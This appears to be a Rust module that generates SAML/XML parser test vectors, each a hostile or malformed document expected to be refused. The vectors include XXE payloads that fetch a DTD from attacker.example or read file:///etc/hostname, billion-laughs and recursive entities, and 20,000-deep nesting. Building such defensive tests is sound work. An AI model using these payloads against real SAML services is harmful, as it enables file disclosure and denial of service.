//! Documents that are no XML, or that two readers read as two.

use super::{assertion, believed, filled, refused, replaced, sound};
use crate::build::{Class, Draft};
use crate::format::{Kind, Severity, Tag, VectorFile};
use crate::mint::Setting;
use crate::mint::xml::namespace::SAML;
use std::fmt::Write as _;

pub(super) fn classes(setting: &Setting) -> Vec<VectorFile> {
    vec![doctype(setting), encoding(setting), well_formed(setting), namespaces(setting), bounds(setting)]
}

const NAME: &str = ">admin@touchstone.example.guests.example<";

fn before(setting: &Setting, text: &str) -> String {
    format!("{text}{}", sound(setting))
}

/// SAML has no use for a document type, and each thing one can do is an attack.
fn doctype(setting: &Setting) -> VectorFile {
    const ALONE: &[&str] = &["xml.no-doctype"];
    const ENTITY: &[&str] = &["xml.entity-known"];
    let with_entity = |declarations: &str| {
        let document = replaced(&sound(setting), NAME, ">&e;<");
        format!("<!DOCTYPE samlp:Response [{declarations}]>{document}")
    };
    let laughs = (1..10).fold("<!ENTITY e0 \"lol\">".to_owned(), |mut text, level| {
        let inner = format!("&e{};", level - 1).repeat(10);
        let _ = write!(text, "<!ENTITY e{level} \"{inner}\">");
        text
    });
    let drafts: [(&str, &str, &str, String, &[&str], &str); 11] = [
        (
            "name-alone",
            "a document type of a name alone comes first",
            "a document type that declares nothing is the door to one that does",
            before(setting, "<!DOCTYPE samlp:Response>"),
            ALONE,
            "CVE-2025-25291",
        ),
        (
            "empty",
            "an empty document type comes first",
            "two readers differ in where a document type ends",
            before(setting, "<!DOCTYPE samlp:Response []>"),
            ALONE,
            "CVE-2025-25291",
        ),
        (
            "quoted-bracket",
            "a document type with brackets in quotes comes first",
            "a reader that looks for the end by counting brackets finds another one",
            before(setting, "<!DOCTYPE samlp:Response [<!ENTITY x \"]><a>\"><!-- ]> -->]>"),
            ALONE,
            "CVE-2025-25291",
        ),
        (
            "external",
            "a document type names a file of its own",
            "a reader fetches the document type from wherever it says",
            before(setting, "<!DOCTYPE samlp:Response SYSTEM \"http://attacker.example/x.dtd\">"),
            ALONE,
            "OWASP XXE",
        ),
        (
            "parameter-entity",
            "a document type has a parameter entity from elsewhere",
            "a reader fetches what the entity names, and takes it for declarations",
            before(
                setting,
                "<!DOCTYPE samlp:Response [<!ENTITY % x SYSTEM \"http://attacker.example/x.dtd\"> %x;]>",
            ),
            ALONE,
            "OWASP XXE",
        ),
        (
            "attribute-default",
            "a document type gives the NameID an attribute that nobody wrote",
            "an attribute comes from a declaration, and is signed or not according to who reads it",
            before(
                setting,
                "<!DOCTYPE samlp:Response [<!ATTLIST saml:NameID SPNameQualifier CDATA \"attacker\">]>",
            ),
            ALONE,
            "XML 1.0 section 3.3.2",
        ),
        (
            "namespace-default",
            "a document type declares a namespace that nobody wrote",
            "a namespace comes from a declaration, and two readers see elements of two namespaces",
            before(
                setting,
                "<!DOCTYPE samlp:Response [<!ATTLIST saml:Subject xmlns:saml CDATA #FIXED \"urn:example:x\">]>",
            ),
            ALONE,
            "CVE-2025-66568",
        ),
        (
            "entity",
            "the NameID is an entity that the document type declares",
            "text comes from a declaration, which another reader does not read",
            with_entity("<!ENTITY e \"admin@touchstone.example.guests.example\">"),
            ENTITY,
            "CVE-2025-23369",
        ),
        (
            "file",
            "the NameID is an entity with the content of a file",
            "a reader puts a file of its own into the text",
            with_entity("<!ENTITY e SYSTEM \"file:///etc/hostname\">"),
            ENTITY,
            "CVE-2026-28809",
        ),
        (
            "laughs",
            "the NameID is an entity that becomes ten of another, nine times over",
            "a few lines become gigabytes",
            with_entity(&laughs.replace("e9", "e")),
            ENTITY,
            "CVE-2003-1564",
        ),
        (
            "entity-recursive",
            "the NameID is an entity that has itself in it",
            "a reader that follows an entity into itself does not come back",
            with_entity("<!ENTITY e \"&f;\"><!ENTITY f \"&e;\">"),
            ENTITY,
            "XML 1.0 section 4.1",
        ),
    ];
    let drafts = drafts.map(|(name, change, sentence, document, stops, source)| {
        refused(name, change, sentence, stops, document).citing(source)
    });
    let class = Class::new(Kind::XmlSignature, "doctype", "documents with a document type")
        .citing(&["XML 1.0 section 2.8"])
        .severity(Severity::High);
    filled(class, drafts)
}

/// XML 1.0 section 4.3.3: two readers that take the octets for another encoding read another document.
fn encoding(setting: &Setting) -> VectorFile {
    let sound = sound(setting);
    let octets = |start: &[u8], end: &[u8]| {
        let (before, after) = sound.split_once(NAME).unwrap_or_default();
        [before.as_bytes(), b">", start, b"admin", end, b"<", after.as_bytes()].concat()
    };
    let utf16: Vec<u8> =
        [0xFEFF].into_iter().chain(sound.encode_utf16()).flat_map(u16::to_be_bytes).collect();
    let declared = |text: &str| format!("{text}{sound}").into_bytes();
    let drafts: [(&str, &str, &str, Vec<u8>); 17] = [
        ("utf-16", "the document is in UTF-16", "xml.utf-8", utf16),
        (
            "declared-utf-16",
            "the document is declared to be in UTF-16, and is not",
            "xml.utf-8",
            declared("<?xml version=\"1.0\" encoding=\"UTF-16\"?>"),
        ),
        (
            "declared-utf-7",
            "the document is declared to be in UTF-7",
            "xml.utf-8",
            declared("<?xml version=\"1.0\" encoding=\"UTF-7\"?>"),
        ),
        (
            "declared-latin-1",
            "the document is declared to be in ISO-8859-1",
            "xml.utf-8",
            declared("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"),
        ),
        ("overlong", "a `<` is written with an octet too many", "xml.utf-8", octets(&[0xC0, 0xBC], b"")),
        (
            "surrogate",
            "a surrogate is written as if it were a character",
            "xml.utf-8",
            octets(&[0xED, 0xA0, 0x80], b""),
        ),
        ("truncated", "a character lacks its last octet", "xml.utf-8", octets(b"", &[0xE2, 0x82])),
        ("latin-1", "an octet stands for a character of ISO-8859-1", "xml.utf-8", octets(b"", &[0xE9])),
        ("nul", "a NUL follows the name", "xml.characters", octets(b"", &[0])),
        ("control", "a control character follows the name", "xml.characters", octets(b"", &[0x0B])),
        ("noncharacter", "U+FFFE follows the name", "xml.characters", octets(b"", "\u{FFFE}".as_bytes())),
        ("nul-reference", "a reference to NUL follows the name", "xml.characters", octets(b"", b"&#0;")),
        (
            "surrogate-reference",
            "a reference to a surrogate follows the name",
            "xml.characters",
            octets(b"", b"&#xD800;"),
        ),
        (
            "large-reference",
            "a reference to a character beyond the last follows the name",
            "xml.characters",
            octets(b"", b"&#x110000;"),
        ),
        (
            "version-1-1",
            "the document is declared to be XML 1.1",
            "xml.declaration",
            declared("<?xml version=\"1.1\"?>"),
        ),
        (
            "declaration-late",
            "a line end comes before the declaration",
            "xml.declaration",
            declared("\n<?xml version=\"1.0\"?>"),
        ),
        (
            "declaration-twice",
            "the declaration is there twice",
            "xml.declaration",
            declared("<?xml version=\"1.0\"?><?xml version=\"1.0\"?>"),
        ),
    ];
    let drafts =
        drafts.map(|(name, change, stop, document)| refused(name, change, change, &[stop], document));
    let accepted = [
        (
            "utf-8-lower-case",
            "the document is declared to be in `utf-8`",
            declared("<?xml version='1.0' encoding='utf-8'?>"),
        ),
        (
            "standalone",
            "the document is declared to stand alone",
            declared("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"),
        ),
        ("byte-order-mark", "the document begins with a byte order mark", declared("\u{FEFF}")),
    ]
    .map(|(name, sentence, document)| believed(setting, name, sentence, document).severity(Severity::Low));
    let class =
        Class::new(Kind::XmlSignature, "encoding", "octets that are read as other characters, or as none")
            .citing(&["XML 1.0 section 4.3.3", "XML 1.0 section 2.2"])
            .severity(Severity::Medium);
    filled(class, drafts.into_iter().chain(accepted))
}

fn well_formed(setting: &Setting) -> VectorFile {
    let sound = sound(setting);
    let edit = |from: &str, to: &str| replaced(&sound, from, to);
    let start = format!("<saml:Assertion xmlns:saml=\"{SAML}\" ID=\"_assertion-1\"");
    let drafts: [(&str, &str, &str, String); 24] = [
        ("empty", "the document is empty", "xml.one-root", String::new()),
        ("white-space", "the document is white space", "xml.one-root", " \n".to_owned()),
        ("two-roots", "the document is there twice", "xml.one-root", format!("{sound}{sound}")),
        ("text-after", "text follows the document element", "xml.one-root", format!("{sound}text")),
        ("text-before", "text comes before the document element", "xml.one-root", format!("text{sound}")),
        (
            "reference-after",
            "a reference follows the document element",
            "xml.one-root",
            format!("{sound}&#x20;"),
        ),
        (
            "section-after",
            "a CDATA section follows the document element",
            "xml.one-root",
            format!("{sound}<![CDATA[]]>"),
        ),
        ("nul-after", "a NUL follows the document element", "xml.characters", format!("{sound}\0")),
        (
            "truncated",
            "the last character is missing",
            "xml.well-formed",
            sound.split_at(sound.len() - 1).0.to_owned(),
        ),
        ("end-tag-missing", "an end tag is missing", "xml.well-formed", edit("</saml:Subject>", "")),
        (
            "end-tag-other",
            "an end tag has another name",
            "xml.well-formed",
            edit("</saml:Subject>", "</saml:subject>"),
        ),
        (
            "end-tag-more",
            "an end tag is there twice",
            "xml.well-formed",
            edit("</saml:Subject>", "</saml:Subject></saml:Subject>"),
        ),
        (
            "no-quotes",
            "an attribute is without quotes",
            "xml.well-formed",
            edit(&start, &start.replace("\"_assertion-1\"", "_assertion-1")),
        ),
        (
            "no-value",
            "an attribute is without a value",
            "xml.well-formed",
            edit(&start, &start.replace("ID=\"_assertion-1\"", "ID=\"_assertion-1\" x")),
        ),
        (
            "no-space",
            "no space stands between two attributes",
            "xml.well-formed",
            edit(&start, &start.replace("\" ID", "\"ID")),
        ),
        (
            "less-than-in-value",
            "a `<` stands in a value",
            "xml.well-formed",
            edit(&start, &start.replace("ID=", "x=\"<\" ID=")),
        ),
        ("section-end-in-text", "`]]>` stands in text", "xml.well-formed", edit(NAME, ">]]><")),
        (
            "hyphens-in-comment",
            "`--` stands in a comment",
            "xml.well-formed",
            edit("<saml:Conditions", "<!-- a -- b --><saml:Conditions"),
        ),
        (
            "comment-open",
            "a comment has no end",
            "xml.well-formed",
            edit("<saml:Conditions", "<!-- <saml:Conditions"),
        ),
        ("ampersand", "an ampersand stands in text", "xml.well-formed", edit(NAME, ">a & b<")),
        (
            "entity-undeclared",
            "an entity is used that nobody declares",
            "xml.entity-known",
            edit(NAME, ">&nbsp;<"),
        ),
        ("entity-case", "an entity is spelled in upper case", "xml.entity-known", edit(NAME, ">&AMP;<")),
        (
            "attribute-twice",
            "the ID is there twice, the second another one",
            "xml.attributes-unique",
            edit(&start, &format!("{start} ID=\"_evil\"")),
        ),
        (
            "attribute-expanded-twice",
            "two attributes differ in their prefix, which stands for one namespace",
            "xml.attributes-unique",
            edit(
                &start,
                &format!("{start} xmlns:p=\"urn:example:x\" xmlns:q=\"urn:example:x\" p:k=\"1\" q:k=\"2\""),
            ),
        ),
    ];
    let drafts = drafts.map(|(name, change, stop, document)| {
        let draft = refused(name, change, change, &[stop], document);
        match name {
            "attribute-twice" => draft.citing("XML 1.0 section 3.1").severity(Severity::High),
            "attribute-expanded-twice" => {
                draft.citing("Namespaces in XML 1.0 section 6.3").severity(Severity::High)
            }
            _ => draft,
        }
    });
    let class = Class::new(Kind::XmlSignature, "well-formed", "documents that a lenient reader repairs")
        .citing(&["XML 1.0 section 2.1"])
        .severity(Severity::Medium);
    filled(class, drafts)
}

fn namespaces(setting: &Setting) -> VectorFile {
    let sound = sound(setting);
    let start = format!("<saml:Assertion xmlns:saml=\"{SAML}\" ID=\"_assertion-1\"");
    let with = |text: &str| replaced(&sound, &start, &format!("{start} {text}"));
    let drafts: [(&str, &str, &str, String); 10] = [
        (
            "prefix-of-attribute",
            "the prefix of an attribute is declared nowhere",
            "xml.prefix-declared",
            with("zz:x=\"1\""),
        ),
        (
            "prefix-of-element",
            "the prefix of an element is declared nowhere",
            "xml.prefix-declared",
            replaced(&sound, "<saml:Conditions", "<zz:x></zz:x><saml:Conditions"),
        ),
        (
            "declared-beside",
            "the prefix of an element is declared in another one, which has ended",
            "xml.prefix-declared",
            replaced(
                &sound,
                "<saml:Conditions",
                "<x:x xmlns:x=\"urn:example:x\"></x:x><x:x></x:x><saml:Conditions",
            ),
        ),
        (
            "xml-rebound",
            "`xml` is declared as something else",
            "xml.namespace-declarations",
            with("xmlns:xml=\"urn:example:x\""),
        ),
        (
            "xml-other-prefix",
            "the namespace of `xml` has another prefix",
            "xml.namespace-declarations",
            with("xmlns:x=\"http://www.w3.org/XML/1998/namespace\""),
        ),
        (
            "xml-default",
            "the namespace of `xml` is the default",
            "xml.namespace-declarations",
            with("xmlns=\"http://www.w3.org/XML/1998/namespace\""),
        ),
        (
            "xmlns-declared",
            "`xmlns` is declared",
            "xml.namespace-declarations",
            with("xmlns:xmlns=\"urn:example:x\""),
        ),
        (
            "xmlns-other-prefix",
            "the namespace of `xmlns` has another prefix",
            "xml.namespace-declarations",
            with("xmlns:x=\"http://www.w3.org/2000/xmlns/\""),
        ),
        ("undeclared", "a prefix is undeclared", "xml.namespace-declarations", with("xmlns:x=\"\"")),
        (
            "two-colons",
            "a name has two colons",
            "xml.well-formed",
            with("xmlns:x=\"urn:example:x\" x:y:z=\"1\""),
        ),
    ];
    let drafts =
        drafts.map(|(name, change, stop, document)| refused(name, change, change, &[stop], document));
    // An element of another namespace is nobody's business.
    let foreign = |place: &str| {
        let evil = assertion(setting).with("ID", "_evil").to_xml().replace(SAML, "urn:example:saml");
        replaced(&sound, place, &format!("{evil}{place}"))
    };
    let accepted = [
        ("foreign-assertion", "an assertion of another namespace comes first", foreign("<saml:Assertion")),
        (
            "foreign-assertion-last",
            "an assertion of another namespace comes last",
            foreign("</samlp:Response>"),
        ),
    ]
    .map(|(name, sentence, document)| {
        believed(setting, name, sentence, document).severity(Severity::Critical)
    });
    let class = Class::new(Kind::XmlSignature, "namespaces", "prefixes that mean nothing, or something else")
        .citing(&["Namespaces in XML 1.0 section 3", "Namespaces in XML 1.0 section 5"])
        .severity(Severity::Medium);
    filled(class, drafts.into_iter().chain(accepted))
}

/// No standard bounds a document; what an attacker sends for nothing must not cost much.
fn bounds(setting: &Setting) -> VectorFile {
    let sound = sound(setting);
    let extended = |content: &str| {
        replaced(
            &sound,
            "<samlp:Status>",
            &format!("<samlp:Extensions>{content}</samlp:Extensions><samlp:Status>"),
        )
    };
    let nested = |depth: usize| extended(&format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth)));
    let numbered = |count: usize, one: &dyn Fn(usize) -> String| (0..count).map(one).collect::<String>();
    let attributes = |count| extended(&format!("<a{}></a>", numbered(count, &|n| format!(" a{n}=\"\""))));
    let declared = |count| {
        extended(&format!("<a{}></a>", numbered(count, &|n| format!(" xmlns:a{n}=\"urn:example:{n}\""))))
    };
    let in_scope = |count: usize| {
        let start = numbered(count, &|n| format!("<a xmlns:a{n}=\"urn:example:{n}\">"));
        extended(&format!("{start}{}", "</a>".repeat(count)))
    };
    let stops = [
        ("deep", "elements are nested 20,000 deep", "xml.depth-bounded", nested(20_000)),
        ("attributes", "an element has 20,000 attributes", "xml.attributes-bounded", attributes(20_000)),
        ("declarations", "an element declares 5,000 namespaces", "xml.attributes-bounded", declared(5_000)),
        (
            "declarations-deep",
            "120 nested elements and the response declare more namespaces than may be in scope",
            "xml.depth-bounded",
            in_scope(130),
        ),
        ("declarations-two", "two elements declare 250 namespaces between them", "xml.namespaces-bounded", {
            let start = |from: usize| {
                numbered(125, &|n| format!(" xmlns:a{}=\"urn:example:{}\"", n + from, n + from))
            };
            extended(&format!("<a{}><a{}></a></a>", start(0), start(125)))
        }),
    ]
    .map(|(name, change, stop, document)| {
        refused(name, change, change, &[stop], document).tag(Tag::ResourceLimit)
    });
    let accepted = [
        ("deep-enough", "elements are nested 50 deep", nested(50)),
        ("attributes-enough", "an element has 100 attributes", attributes(100)),
        ("declarations-enough", "an element declares 50 namespaces", declared(50)),
    ]
    .map(|(name, sentence, document)| -> Draft {
        believed(setting, name, sentence, document).tag(Tag::ResourceLimit).severity(Severity::Low)
    });
    let class = Class::new(Kind::XmlSignature, "bounds", "documents that are small to send and dear to read")
        .citing(&["XML Signature Best Practices"])
        .severity(Severity::Medium);
    filled(class, stops.into_iter().chain(accepted))
}
